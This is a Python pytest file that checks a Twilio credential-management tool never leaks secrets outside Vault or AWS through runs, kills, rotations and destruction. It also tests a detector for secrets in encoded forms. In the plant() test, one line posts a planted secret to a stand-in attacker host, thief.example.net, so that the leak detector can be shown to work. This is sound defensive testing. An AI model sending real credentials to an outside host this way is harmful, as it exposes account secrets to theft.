"""Not one secret byte outside the store, whatever a run comes to: success, failure, kill, rotation, destruction."""

import base64
import json
import re
import secrets
import subprocess
import sys
import urllib.parse

import hvac
import pytest

from tests import figures
from tests.rotation.canaries import KINDS, Canaries, search
from tests.stacks.conftest import moto_url, vault_server_  # noqa: F401 - the same servers as there
from tests.stacks.documents import AwsDocuments, VaultDocuments
from tests.stacks.stack import Run
from tests.trust.hosts import Hosts
from twilio_environments.emulator import Emulator, Fault
from twilio_environments.secrets import schedule


@pytest.fixture
def twilio():
    with Emulator() as emulator:
        yield emulator


def declared(**config):
    """A stack file's `config`: an account that may be closed, and what is given."""
    allow = {"close_subaccount": "these are canaries"}
    return {"local": True, "allow": allow, "subaccount": {"friendly_name": "Canaries"}, "keys": {"api": {}}} | config


@pytest.fixture
def hosts(tmp_path):
    with Hosts(tmp_path) as all_hosts:
        yield all_hosts


@pytest.fixture
def on_aws(tmp_path, twilio, moto_url, hosts):  # noqa: F811 - the fixture
    documents = AwsDocuments(moto_url, "us-east-1")
    key, session = "AKIA" + secrets.token_hex(8).upper(), secrets.token_urlsafe(60)
    documents.variables |= {"AWS_ACCESS_KEY_ID": key, "AWS_SESSION_TOKEN": session}
    given = {"the AWS key's id": key, "the AWS key's secret": documents.secret, "the AWS session token": session}
    canaries = Canaries(tmp_path, twilio, documents, given, hosts)
    secrets_ = {"aws": {"region": "us-east-1"}, "document": "canaries/default"}
    canaries.stack.edit(lambda config: config.update(declared(secrets=secrets_)))
    return canaries


@pytest.fixture
def on_vault(tmp_path, twilio, vault_server_, hosts):  # noqa: F811 - the fixture
    """By AppRole, with a secret id; the token of a login is known by its form alone."""
    root = hvac.Client(url=vault_server_.address, token=vault_server_.token)
    documents = VaultDocuments(vault_server_)
    if "approle/" not in root.sys.list_auth_methods()["data"]:
        root.sys.enable_auth_method("approle")
    policy = """
        path "secret/data/*" { capabilities = ["create", "read", "update"] }
        path "secret/metadata/*" { capabilities = ["create", "read", "update"] }
        path "secret/delete/*" { capabilities = ["update"] }
    """
    root.sys.create_or_update_policy("canaries", policy)
    root.auth.approle.create_or_update_approle("canaries", token_policies=["canaries"])
    role = root.auth.approle.read_role_id("canaries")["data"]["role_id"]
    secret = root.auth.approle.generate_secret_id("canaries")["data"]["secret_id"]
    documents.variables |= {"VAULT_ROLE_ID": role, "VAULT_SECRET_ID": secret}
    del documents.variables["VAULT_TOKEN"]
    given = {"Vault's secret id": secret, "Vault's root token": vault_server_.token}
    canaries = Canaries(tmp_path, twilio, documents, given, hosts)
    secrets_ = {
        "vault": {"auth": {"method": "approle"}},
        "shape": "environment_variables",
        "document": "canaries/env",
        "auth_token": "TWILIO_AUTH_TOKEN",
    }
    keys = {"api": {}, "handed-over": {"shape": "aws_managed", "document": "canaries/managed"}}
    canaries.stack.edit(lambda config: config.update(declared(secrets=secrets_, keys=keys)))
    return canaries


def assert_clean(canaries: Canaries, record_property) -> None:
    canaries.ask_for_everything()
    looked, found = canaries.hits()
    record_property(
        figures.COUNTED, ("canaries", {"secrets": len(canaries.secrets), "places": looked, "hits": len(found)})
    )
    assert found == []
    # Pulumi leaves no temporary file, and nobody asks another machine; what there ever is is looked at.
    assert {*KINDS.values()} - canaries.kinds() <= {"temporary files", "hosts"}, "a place is not looked at any more"


def begun_and_killed(canaries: Canaries) -> None:
    """Rotate the key `api`, and kill the CLI when the new key has been made."""
    stack = canaries.stack
    stack.environment |= schedule.request("one to be killed", ["api"])
    arguments = ("up", "--yes", "--skip-preview", *canaries.loud())
    with canaries.watching():
        process = stack.start(*arguments)
        stack.twilio.faults.add(Fault("kill_after", method="POST", path=r"/Keys\.json$", pid=process.pid))
        out, err = process.communicate(timeout=120)
    stack.runs.append(Run(arguments, process.returncode, out, err, 0))
    assert process.returncode < 0
    stack.twilio.faults.clear()
    del stack.environment["TWILIO_ENVIRONMENTS_ROTATE"]
    stack.pulumi("cancel", "--yes")


@pytest.mark.timeout(900)
def test_no_secret_is_anywhere_but_in_vault_through_a_kill_and_rotations_by_the_commands(on_vault, record_property):
    stack = on_vault.stack
    documents = stack.documents
    on_vault.run("up", "--yes", "--skip-preview")
    begun_and_killed(on_vault)
    healed = on_vault.run("up", "--yes", "--refresh")
    assert "a rotation was started but not finished, so it is finished now" in healed.output
    account = next(row for row in stack.rows("accounts") if row["sid"] != stack.twilio.account_sid)
    before = documents.read("canaries/env")
    assert before == {
        "TWILIO_ACCOUNT_SID": account["sid"],
        "TWILIO_AUTH_TOKEN": account["auth_token"],
        "TWILIO_API_KEY": before["TWILIO_API_KEY"],
        "TWILIO_API_SECRET": before["TWILIO_API_SECRET"],
    }
    assert documents.read("canaries/managed").keys() == {"accountSid", "apiKeySid", "apiKeySecret"}
    rotated = on_vault.twilio_env("rotate", "--stack", "canaries", "handed-over", "--yes")
    assert "a rotation was requested" in rotated.output
    assert documents.read("canaries/env") == before, "only what was named is rotated"
    assert len(stack.rows("keys")) == 4, "each old one lives on"
    on_vault.twilio_env("rotate-auth-token", "--stack", "canaries")
    both = documents.read("canaries/env")
    assert both["TWILIO_AUTH_TOKEN"] == account["auth_token"]
    on_vault.twilio_env("rotate-auth-token", "--stack", "canaries", "--promote")
    assert documents.read("canaries/env") == before | {"TWILIO_AUTH_TOKEN": both["TWILIO_AUTH_TOKEN_secondary"]}
    on_vault.run("destroy", "--yes", "--skip-preview")
    assert documents.paths() == []
    assert_clean(on_vault, record_property)
    logins = [place for place, content in on_vault.places() if re.search(rb"\bhv[sb]\.[A-Za-z0-9_-]{24}", content)]
    assert logins == [], "the token of a login"


@pytest.mark.timeout(900)
def test_no_secret_is_anywhere_but_in_aws_after_failures_and_one_that_is_declared_is_found_everywhere(
    on_aws, record_property
):
    stack = on_aws.stack
    faults = stack.twilio.faults
    stack.hurry()
    faults.add(Fault("status_after", method="POST", path=r"/Keys\.json$", nth=1, status=500))
    on_aws.run("up", "--yes", "--skip-preview", fails=True)
    faults.clear()
    on_aws.run("up", "--yes", "--skip-preview")
    assert "api_key" in stack.documents.read("canaries/default")
    assert_clean(on_aws, record_property)
    plant(on_aws)


def plant(canaries: Canaries) -> None:
    """A secret is found in each kind of place; put there by the commands themselves where they can be made to."""
    secret = "plant" + secrets.token_urlsafe(16)
    stack = canaries.stack
    canaries.secrets = {"a planted one": secret}
    stack.edit(lambda config: config["secrets"].update(document=f"canaries/{secret}"))  # its path is an output
    canaries.run("up", "--yes", "--skip-preview")
    with canaries.watching():
        left = stack.home / "temporary" / "left"
        left.write_text(base64.b64encode(f"x:{secret}".encode()).decode())
        command = [sys.executable, "-c", "import sys; sys.exit(sys.stdin.read())", secret]
        with subprocess.Popen(command, stdin=subprocess.PIPE, stderr=subprocess.PIPE, text=True) as process:
            canaries.seen(str(process.pid))
            _, err = process.communicate(f"Traceback (most recent call last): {secret}")
    left.unlink()
    tell = f"import requests; requests.post('https://thief.example.net/', auth=('x', {secret!r}))"
    subprocess.run([sys.executable, "-c", tell], env=stack.environment, check=True)
    stack.runs.append(Run(("a", "traceback"), process.returncode, "", err, 0))
    canaries.ask_for_everything()
    _, found = canaries.hits()
    assert [
        kind for part, kind in KINDS.items() if not any(part in hit.partition(": a planted")[0] for hit in found)
    ] == []


SECRET = 'quo"te\\back&amp<less/slash+plus ' + "0123456789abcdef"
FORMS = {
    "as it is": SECRET,
    "in Python's JSON": json.dumps({"token": SECRET}),
    "in Go's JSON": json.dumps(SECRET).replace("&", "\\u0026").replace("<", "\\u003c"),
    "in JSON with escaped slashes": json.dumps(SECRET).replace("/", "\\/"),
    "in JSON within JSON": json.dumps({"body": json.dumps({"token": SECRET})}),
    "in a URL": "https://example.com/?token=" + urllib.parse.quote(SECRET, safe=""),
    "in base64": base64.b64encode(f"{SECRET};".encode()).decode(),
    "in base64, shifted": base64.b64encode(f"x{SECRET};".encode()).decode(),
    "in base64, shifted again": base64.b64encode(f"xx{SECRET};".encode()).decode(),
    "in URL-safe base64": base64.urlsafe_b64encode(f"x{SECRET};".encode()).decode(),
    "in hexadecimal": SECRET.encode().hex(),
    "in hexadecimal capitals": SECRET.encode().hex().upper(),
}


@pytest.mark.parametrize("form", FORMS)
def test_a_secret_is_found_in_whatever_form(form):
    places = [("clean", SECRET[:-1].encode()), ("planted", b"\xff before " + FORMS[form].encode() + b" after")]
    looked, found = search(places, {"it": SECRET})
    assert looked == 2
    assert found
    assert {hit.partition(":")[0] for hit in found} == {"planted"}
